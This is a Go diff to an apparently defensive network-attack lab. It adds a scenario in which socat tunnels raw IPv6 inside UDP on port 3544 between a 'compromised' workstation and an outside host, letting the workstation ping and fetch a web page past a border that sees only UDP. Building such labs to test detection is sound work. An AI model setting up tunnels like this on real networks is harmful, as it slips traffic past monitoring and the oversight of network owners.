@@ -2,6 +2,7 @@ package lab
 
 import (
 	"fmt"
+	"net/netip"
 	"syscall"
 	"time"
 )
@@ -157,6 +158,14 @@ func init() {
 			attack: ipv6EvasionAttack,
 		},
 		&Scenario{
+			Name: "ipv6-tunnel", Difficulty: Medium,
+			Description: "IPv6 smuggled in UDP (Teredo-style, port 3544): socat joins a TUN device on the compromised ws1 to one on the outside host through UDP datagrams carrying raw IPv6 packets; ws1 then pings the outside host and fetches a web page from it over IPv6 that the border only sees as UDP.",
+			Tools:       []string{"socat", "ip", "ping", "curl"}, Classes: []string{"ipv6.tunnel"}, MITRE: []string{"T1572"},
+			AttackerAddrs: []string{hostExt.IPv4().String()}, Victims: v4(hostWS1), Duration: 15 * time.Second,
+			Notes:  "the tunnel's inner addresses are " + smuggleNet6.String() + " (ws1 ::2, ext ::1); its UDP datagrams go between ws1 and ext on port 3544",
+			attack: ipv6TunnelAttack,
+		},
+		&Scenario{
 			Name: "ipv6-rogue-dhcpv6", Difficulty: Hard,
 			Description: "Rogue DHCPv6 server: thc-ipv6 fake_dhcps6 answers ws2's DHCPv6 solicits with an address in 2001:db8:bad::/64 and the attacker as DNS server.",
 			Tools:       []string{"atk6-fake_dhcps6", "dhclient"}, Classes: []string{"ipv6.rogue_dhcpv6"}, MITRE: []string{"T1557"},
@@ -207,5 +216,40 @@ func rogueDHCPv6Attack(a *attackRun) error {
 			return err
 		}
 		return a.sleep(2 * time.Second)
+	})
+}
+
+// ipv6TunnelAttack carries IPv6 in UDP between ws1 and ext (socat between
+// TUN devices, raw IPv6 packets in the datagrams: Teredo's framing on its
+// port) and uses the tunnel for pings and an HTTP fetch.
+func ipv6TunnelAttack(a *attackRun) error {
+	end := func(local, peer Host, tun4 netip.Addr) []string {
+		return []string{"socat", fmt.Sprintf("TUN:%s/30,tun-name=vgltun,iff-no-pi,up", tun4),
+			fmt.Sprintf("UDP-DATAGRAM:%s:3544,bind=%s:3544", peer.IPv4(), local.IPv4())}
+	}
+	ext4, ws4 := hostAddr(smuggleNet4, 1), hostAddr(smuggleNet4, 2)
+	ext6, ws6 := hostAddr(smuggleNet6, 1), hostAddr(smuggleNet6, 2)
+	return a.during(hostExt, syscall.SIGTERM, end(hostExt, hostWS1, ext4), func() error {
+		return a.during(hostWS1, syscall.SIGTERM, end(hostWS1, hostExt, ws4), func() error {
+			if err := a.sleep(time.Second); err != nil { // the TUN devices come up
+				return err
+			}
+			for _, side := range []struct {
+				h    Host
+				addr netip.Addr
+			}{{hostExt, ext6}, {hostWS1, ws6}} {
+				if err := a.run(side.h, "ip", "-6", "addr", "add", side.addr.String()+"/64", "dev", "vgltun", "nodad"); err != nil {
+					return err
+				}
+			}
+			return a.sequence(
+				a.phased("pings through the tunnel", func() error {
+					return a.run(hostWS1, "ping", "-6", "-c", "10", "-i", "0.5", ext6.String())
+				}),
+				a.phased("HTTP through the tunnel", func() error {
+					return a.run(hostWS1, "curl", "-s", "--max-time", "5", "-o", "/dev/null", "http://["+ext6.String()+"]/")
+				}),
+			)
+		})
 	})
 }
